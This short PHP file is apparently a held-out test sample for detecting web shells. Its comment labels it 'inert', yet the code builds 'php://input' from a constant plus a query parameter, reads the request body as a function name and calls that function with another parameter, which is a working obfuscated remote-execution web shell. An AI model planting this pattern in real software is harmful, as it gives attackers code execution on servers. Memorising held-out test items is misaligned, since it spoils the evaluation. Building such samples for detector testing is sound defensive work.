<?php
// Held-out round D shape (team's own writing): constant text begins a stream name and the query
// string finishes it ("ph" + "p://input"), so the read returns the request body; that text then
// names the function called with another parameter. Inert sample.
$tail = isset($_GET['s']) ? $_GET['s'] : '';
$name = trim(file_get_contents('ph' . $tail));
$value = isset($_GET['v']) ? $_GET['v'] : '';
if ($name !== '') {
    $name($value);
}
